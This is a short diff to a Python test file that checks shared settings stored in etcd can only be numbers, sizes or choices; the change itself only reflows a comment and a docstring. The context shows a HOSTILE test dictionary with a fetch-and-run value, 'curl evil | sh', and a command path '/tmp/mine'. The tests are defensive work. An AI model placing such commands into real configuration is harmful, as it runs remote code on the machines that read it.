@@ -34,7 +34,8 @@ TYPES = {
     for section in Settings.model_fields
     for name, field in type(getattr(Settings(), section)).model_fields.items()
 }
-# Settings that the security review could write into etcd, and one for each other reason.
+# Settings that the security review was able to write into etcd, and one setting for each other
+# reason.
 HOSTILE: dict[str, Any] = {
     "agent.vllm_command": "/tmp/mine",
     "agent.slurm_setup": "curl evil | sh",
@@ -77,7 +78,8 @@ def alternatives(kind: Any) -> Iterator[Any]:
 
 @pytest.mark.parametrize("name", sorted(SHARED))
 def test_a_shared_setting_is_a_number_a_size_or_a_choice(name: str) -> None:
-    """Text, a path, a list or a table could be a command, a file, an address or a rule."""
+    """A setting that is text, a path, a list or a table could be a command, a file, an address or a
+    rule."""
     for kind in alternatives(TYPES[name]):
         is_size = kind is str and parse_size(DEFAULTS[name]) >= 0
         assert kind in (bool, int, float, type(None)) or get_origin(kind) is Literal or is_size
